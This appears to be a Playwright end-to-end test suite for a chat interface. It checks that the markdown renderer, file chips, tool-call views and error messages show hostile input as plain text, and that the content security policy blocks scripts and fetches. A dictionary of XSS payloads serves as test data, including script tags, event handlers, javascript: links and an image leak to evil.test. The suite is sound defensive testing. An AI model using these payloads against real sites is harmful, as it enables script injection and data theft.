"""Whatever a model, a user or a file says, it is text: nothing runs, nothing is loaded, nothing is sent."""

import json

import pytest
from playwright.sync_api import expect

from tests.e2e.browser.test_chat import set_settings

# What an answer may consist of; none of these runs, loads or embeds anything.
ELEMENTS = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DIV", "EM", "FIGCAPTION", "FIGURE", "H3", "H4", "H5", "H6", "HR", "LI",
    "OL", "P", "PRE", "S", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "class", "dir", "href", "rel", "role", "start", "tabindex", "target", "title", "type",
}  # fmt: skip

# {here}: a server whose log would tell that something was fetched.
HOSTILE = {
    "script": "<script>alert(1)</script>\n\n<SCRIPT SRC={here}/x.js></SCRIPT>",
    "handler": "<img src=x onerror=alert(1)> <body onload=alert(1)> <b onmouseover=alert(1)>b</b>",
    "svg": '<svg onload=alert(1)><script>alert(1)</script><use href="{here}/x.svg#a"/></svg>',
    "frames": (
        '<iframe src="{here}/x"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data={here}>'
        "<embed src={here}/x><video src={here}/x autoplay onloadstart=alert(1)>"
    ),
    "styles": "<style>body{{display:none;background:url({here}/x)}}</style> <p style='position:fixed;inset:0'>x</p>",
    "meta": '<meta http-equiv=refresh content="0;url={here}"><base href="{here}"><link rel=stylesheet href={here}/x>',
    "form": '<form action="{here}"><input name=key><button>Send</button></form>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "comment": "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>",
    "links": (
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](  javascript:alert(1)) [d](java&#10;script:alert(1)) "
        "[e](&#106;avascript:alert(1)) [f](vbscript:x) [g](data:text/html,<script>alert(1)</script>) [h](file:///etc)"
        " [i](/admin) [j](//evil.test) [k](blob:{here}/1) [l](\\x01javascript:alert(1)) <javascript:alert(1)> [m](#a)"
    ),
    "references": "[a][1] [b]\n\n[1]: javascript:alert(1)\n[b]: data:text/html,x '\" onmouseover=alert(1)'",
    "images": (
        "![a]({here}/a.png) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](javascript:alert(1)) "
        "![d]({here}/'x) ![e]({here}/e.png \"' onload=alert(1)\") ![![f]({here}/f.png)]({here}/g.png)"
    ),
    "attributes": (
        '[a](http://evil.test/"onmouseover="alert(1)) [b](http://evil.test \'"><img src=x onerror=alert(1)>\')'
    ),
    "autolinks": 'http://evil.test/<script>alert(1)</script> www.evil.test/"onclick=alert(1) mailto:a@b?x=<script>',
    "fence": "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>",
    "fence name": '``` "onmouseover=alert(1)><img src=x onerror=alert(1)>\ncode\n```\n\n~~~\nnot closed',
    "table": "|<script>alert(1)</script>|b|\n|:-|-:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &Nothing; &#0; &#xD800;",
    "control": "a\u0000b\u0007c\u202ereversed\u202c \u2066isolated \ud83d\ude00",
    "nesting": "> " * 3000 + "deep " + "- " * 3000 + "[" * 3000 + "**" * 3000,
    "long line": "x" * 200_000,
    "long word": "http://evil.test/" + "a" * 20_000,
    "template": "{{{{constructor.constructor('alert(1)')()}}}} ${{alert(1)}} <%= alert(1) %>",
}
HERE = "http://evil.test"


@pytest.fixture(scope="module")
def page(browser):
    """A tab on which texts are shown as answers, without asking a model for each."""
    from tests.e2e.browser.visit import visiting

    with visiting(browser) as v:
        yield v


SHOW = """async ([text, size]) => {
    const {Growing} = await import("/ui/markdown.js");
    const answer = document.createElement("div");
    answer.className = "answer";
    document.querySelector("#messages").replaceChildren(answer);
    const growing = new Growing(answer);
    for (let end = size; end < text.length; end += size) growing.show(text.slice(0, end), false);
    growing.show(text, true);
    const all = [...answer.querySelectorAll("*")];
    return {
        elements: [...new Set(all.map((e) => e.tagName))],
        attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
        links: all.filter((e) => e.tagName === "A").map((e) => [e.protocol, e.rel, e.target, e.textContent]),
        text: answer.textContent,
        isWithin: [document.documentElement, document.querySelector("#log")].every(
            (e) => e.scrollWidth <= e.clientWidth),
    };
}"""


def show(v, text, size=10**9):
    return v.page.evaluate(SHOW, [text, size])


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_does_nothing(page, name):
    text = HOSTILE[name].format(here=HERE)
    num_requests = len(page.requests)
    for size in (10**9, max(7, len(text) // 200)):
        found = show(page, text, size)
        assert set(found["elements"]) <= ELEMENTS
        assert set(found["attributes"]) <= ATTRIBUTES
        for protocol, rel, target, _ in found["links"]:
            assert protocol in ("http:", "https:", "mailto:")
            assert (rel, target) == ("noopener noreferrer", "_blank")
        assert found["isWithin"], "something is wider than its place"
    page.page.locator(".answer").hover()
    page.page.wait_for_timeout(20)  # whatever was to run or load would have begun
    assert page.wrongs() == []
    assert {r.url.rsplit("/", 1)[-1] for r in page.requests[num_requests:]} <= {"markdown.js"}


def test_no_text_is_lost_where_it_is_nested_too_deep(page):
    for size in (10**9, 100):
        assert show(page, HOSTILE["nesting"], size)["text"].count("**") == 3000


def test_markup_in_an_answer_is_shown_as_it_was_written(page):
    for text in ("<b>bold</b> &amp; <script>alert(1)</script>", "a <img src=x> b"):
        assert show(page, text)["text"].strip() == text.replace("&amp;", "&")
    assert show(page, "[a](javascript:alert(1))")["text"].strip() == "[a](javascript:alert(1))"
    assert show(page, "[a](/admin)")["text"].strip() == "[a](/admin)"


def test_an_image_is_a_link_to_it_and_is_not_loaded(page):
    found = show(page, "![the whale](https://evil.test/leak?secret=1)")
    assert found["links"] == [["https:", "noopener noreferrer", "_blank", "image: the whale"]]
    assert "IMG" not in found["elements"]


def test_hostile_words_in_every_other_place_are_text_too(visit):
    evil = "<img src=x onerror=alert(1)>"
    call = (
        f'{evil}\n# {evil}</think>\n\n<｜DSML｜tool_calls>\n<｜DSML｜invoke name="weather">\n'
        f'<｜DSML｜parameter name="city" string="true">{evil}</｜DSML｜parameter>\n'
        "</｜DSML｜invoke>\n</｜DSML｜tool_calls>"
    )
    with visit(call) as v:
        tool = {"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}
        set_settings(v, tools=json.dumps([{"type": "function", "function": tool}]))
        v.page.locator("#file-input").set_input_files(
            {"name": f"{evil}.txt", "mimeType": "text/plain", "buffer": evil.encode()}
        )
        expect(v.page.locator(".chip")).to_be_visible()
        answer = v.ask(evil)
        v.page.get_by_label("Title of this conversation").fill(evil)
        v.page.keyboard.press("Tab")
        for place in (".message.user .text", ".file .name", ".file pre", ".call pre", "#conversations a"):
            assert evil in v.page.locator(place).first.text_content()
        assert evil in answer.locator(".thought-text").text_content()
        answer.locator("textarea").fill(evil)
        v.button("Give the results").click()
        v.answered(1)
        assert evil in answer.locator(".result pre").text_content()
        assert v.page.locator("#messages img, #side li img").count() == 0
        v.page.reload()
        v.answered(1)


def test_an_error_of_the_server_is_text(visit):
    with visit("</think>x") as v:
        v.allowed = ["Failed to load resource"]
        evil = "<img src=x onerror=alert(1)>"
        v.page.route(
            "**/v1/chat/completions", lambda route: route.fulfill(status=400, json={"error": {"message": evil}})
        )
        v.say("hello")
        expect(v.page.locator(".problem p")).to_have_text(f"{evil}.")


def test_the_policy_stops_what_would_get_past_the_page(visit):
    """The second wall: were there a fault in the page, the browser itself would refuse."""
    with visit() as v:
        tried = v.page.evaluate(
            """async () => {
                const failed = [];
                await new Promise((done) => setTimeout(done));  // what is asked of the browser directly may do more
                try { document.body.innerHTML = "<b>x</b>"; } catch { failed.push("innerHTML"); }
                try { new Function("return 1")(); } catch { failed.push("Function"); }
                const script = document.createElement("script");
                try { script.textContent = "window.ran = true"; } catch { failed.push("script text"); }
                const inline = document.createElement("p");
                inline.setAttribute("style", "color: red");
                document.body.append(inline);
                if (getComputedStyle(inline).color !== "rgb(255, 0, 0)") failed.push("style");
                try { await fetch("http://127.0.0.2:9/x"); } catch { failed.push("fetch"); }
                const image = new Image();
                await new Promise((done) => { image.onerror = done; image.src = "http://127.0.0.2:9/x.png"; });
                return [failed, window.ran ?? false, window.violations.map((v) => v.split(" ")[0])];
            }"""
        )
        assert tried[0] == ["innerHTML", "Function", "script text", "style", "fetch"]
        assert tried[1] is False
        assert {"connect-src", "img-src", "require-trusted-types-for", "style-src-attr"} <= set(tried[2])
        v.page.evaluate("window.violations = []")
        v.allowed, v.requests = [""], []


def test_the_page_is_shown_in_no_other_page(visit):
    with visit() as v:
        other = v.context.new_page()
        other.route("http://other.test/", lambda route: route.fulfill(
            content_type="text/html", body=f'<iframe src="{v.url}" width=500 height=500></iframe>'
        ))  # fmt: skip
        other.goto("http://other.test/")
        other.wait_for_timeout(200)
        assert not [f for f in other.frames if f.url.startswith(v.url)]
